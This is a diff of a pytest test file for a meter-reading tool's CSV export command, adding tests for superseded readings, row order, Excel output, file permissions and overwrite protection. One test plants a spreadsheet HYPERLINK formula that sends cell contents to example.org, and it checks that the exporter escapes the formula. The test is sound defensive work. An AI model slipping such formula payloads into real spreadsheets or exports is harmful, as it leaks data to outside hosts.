@@ -1,5 +1,7 @@
 """`metermt readings`: what was read."""
 
+import csv
+import io
 import os
 import re
 import stat
@@ -11,6 +13,7 @@ from commands import METERMT, assert_refused, rows_in
 from conftest import CYCLE, import_jobs, make_job, make_reading
 from steps import Steps
 
+from metermt.cli.spreadsheet import Spreadsheet
 from metermt.store.sqlite.store import SqliteStore
 
 COLUMNS = [
@@ -46,23 +49,93 @@ DECEMBER = [
 ]
 
 
-def test_an_export_has_every_reading_in_every_column(metermt, read_meters):
+def counting(rows):
+    return [row for row in rows if row["counts"] == "1"]
+
+
+def test_an_export_has_every_reading_that_counts_in_every_column(metermt, read_meters):
     finished = metermt("readings", "export", "-")
 
     assert finished.returncode == 0
-    assert rows_in(finished.stdout) == NOVEMBER + DECEMBER
-    assert finished.stderr.startswith("6 readings written to ")
+    assert rows_in(finished.stdout) == counting(NOVEMBER) + DECEMBER
+    assert finished.stderr.startswith("5 readings written to ")
 
 
 def test_an_export_of_a_cycle_has_its_readings_only(invoke, read_meters):
-    assert rows_in(invoke("readings", "export", "-", "--cycle", CYCLE).stdout) == NOVEMBER
+    assert rows_in(invoke("readings", "export", "-", "--cycle", CYCLE).stdout) == counting(NOVEMBER)
     assert rows_in(invoke("readings", "export", "-", "--cycle", "2026-12").stdout) == DECEMBER
 
 
-def test_a_corrected_reading_gives_two_rows_and_only_the_last_counts(invoke, read_meters):
-    rows = [row for row in rows_in(invoke("readings", "export", "-").stdout) if row["meter"] == "G72168"]
+def test_superseded_readings_are_exported_when_all_are_asked_for(invoke, read_meters):
+    finished = invoke("readings", "export", "-", "--all")
 
+    assert rows_in(finished.stdout) == NOVEMBER + DECEMBER
+    assert finished.stderr.startswith("6 readings written to ")
+    rows = [row for row in rows_in(finished.stdout) if row["meter"] == "G72168"]
     assert [(row["reading"], row["counts"]) for row in rows] == [("4711", "0"), ("4712", "1")]
+
+
+def test_rows_come_in_the_order_of_the_walk(invoke, crew_database):
+    with SqliteStore(crew_database) as store:
+        import_jobs(store, CYCLE, [make_job("A9", route="South"), make_job("A1", sequence=9), make_job("Z1", route="")])
+        Steps(store).record(*(make_reading(meter) for meter in ("A1", "A9", "G1", "G2", "Z1")))
+
+    rows = rows_in(invoke("readings", "export", "-").stdout)
+
+    assert [row["meter"] for row in rows] == ["Z1", "G1", "G2", "A1", "A9"]
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@"])
+def test_a_text_is_never_a_formula_to_a_spreadsheet(invoke, crew_database, begins):
+    formula = f'{begins}HYPERLINK("http://example.org?"&A1)'
+    with SqliteStore(crew_database) as store:
+        import_jobs(store, CYCLE, [make_job("G3", route=formula, address=formula)])
+        Steps(store).record(make_reading("G3", reason=formula, key=formula))
+
+    (row,) = rows_in(invoke("readings", "export", "-").stdout)
+
+    assert {row[column] for column in ("route", "address", "reason", "key")} == {f"'{formula}"}
+
+
+@pytest.mark.parametrize("begins", ["\t", "\r"])
+def test_a_text_that_begins_with_a_tab_or_a_return_is_none_either(begins):
+    """No text of a database does; a table may have others some day."""
+    out = io.StringIO()
+    Spreadsheet(out, for_excel=False, local_time=False).write([f"{begins}=1+1", "a=1", -1])
+    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [f"'{begins}=1+1", "a=1", "-1"]
+
+
+def test_an_unknown_cycle_is_an_error_that_names_the_others(invoke, read_meters, tmp_path):
+    finished = invoke("readings", "export", "december.csv", "--cycle", "2025-12")
+
+    assert_refused(finished, "There is no cycle '2025-12': there are 2026-11, 2026-12")
+    assert not (tmp_path / "december.csv").exists()
+
+
+def test_an_export_can_be_read_by_its_owner_only(metermt, read_meters, tmp_path):
+    target = tmp_path / "november.csv"
+    metermt("readings", "export", "november.csv")
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+    target.chmod(0o644)
+    metermt("readings", "export", "november.csv", "--force")
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+
+def test_times_can_be_those_of_the_machine(metermt, read_meters):
+    rows = rows_in(metermt("readings", "export", "-", "--local-time", TZ="Asia/Kolkata").stdout)
+
+    assert rows[0]["read_at"] == "2026-11-19T14:00:15+05:30"
+    assert rows[0]["recorded_at"] == "2026-11-20T15:30:00+05:30"
+
+
+def test_an_export_for_excel_says_that_it_is_utf_8_and_has_semicolons(metermt, read_meters, tmp_path):
+    metermt("readings", "export", "november.csv", "--excel")
+
+    exported = (tmp_path / "november.csv").read_bytes()
+    assert exported.startswith(b"\xef\xbb\xbfcycle;route;sequence;meter;")
+    text = io.StringIO(exported.decode("utf-8-sig"), newline="")
+    assert list(csv.DictReader(text, delimiter=";")) == counting(NOVEMBER) + DECEMBER
 
 
 def test_the_columns_are_those_that_the_help_tells_of(invoke, read_meters):
@@ -79,7 +152,7 @@ def test_a_file_gets_the_same_as_standard_output(metermt, read_meters, tmp_path)
     finished = metermt("readings", "export", "november.csv")
 
     assert (finished.returncode, finished.stdout) == (0, "")
-    assert finished.stderr == "6 readings written to november.csv\n"
+    assert finished.stderr == "5 readings written to november.csv\n"
     exported = (tmp_path / "november.csv").read_bytes()
     assert exported == metermt("readings", "export", "-").stdout.encode().replace(b"\n", b"\r\n")
     assert {path.name for path in tmp_path.iterdir()} == {"november.csv", read_meters.name}
@@ -90,6 +163,16 @@ def test_standard_output_gets_utf_8_whatever_the_terminal_speaks(metermt, read_m
 
     assert finished.returncode == 0, finished.stderr
     assert rows_in(finished.stdout)[1]["address"] == "Größe 3, left"
+
+
+def test_an_export_that_is_there_is_replaced_only_when_that_is_asked_for(invoke, read_meters, tmp_path):
+    target = tmp_path / "november.csv"
+    target.write_text("as it was\n")
+
+    finished = invoke("readings", "export", "november.csv")
+
+    assert_refused(finished, "november.csv is there already: choose another name, or replace it with --force")
+    assert target.read_text() == "as it was\n"
 
 
 def test_one_reading_is_one(invoke, crew_database):
@@ -103,10 +186,10 @@ def test_an_export_replaces_an_older_one_as_a_whole(metermt, read_meters, tmp_pa
     target = tmp_path / "november.csv"
     target.write_text("as it was\n")
     with target.open() as opened_before:
-        assert metermt("readings", "export", "november.csv").returncode == 0
+        assert metermt("readings", "export", "november.csv", "--force").returncode == 0
 
         assert opened_before.read() == "as it was\n"
-    assert rows_in(target.read_text(encoding="utf-8")) == NOVEMBER + DECEMBER
+    assert rows_in(target.read_text(encoding="utf-8")) == counting(NOVEMBER) + DECEMBER
 
 
 @pytest.mark.parametrize(
@@ -176,4 +259,4 @@ def test_a_named_pipe_gets_the_export_and_stays_a_pipe(environment, read_meters,
         os.close(reader)
 
     assert stat.S_ISFIFO(pipe.stat().st_mode)
-    assert rows_in(received.decode()) == NOVEMBER + DECEMBER
+    assert rows_in(received.decode()) == counting(NOVEMBER) + DECEMBER
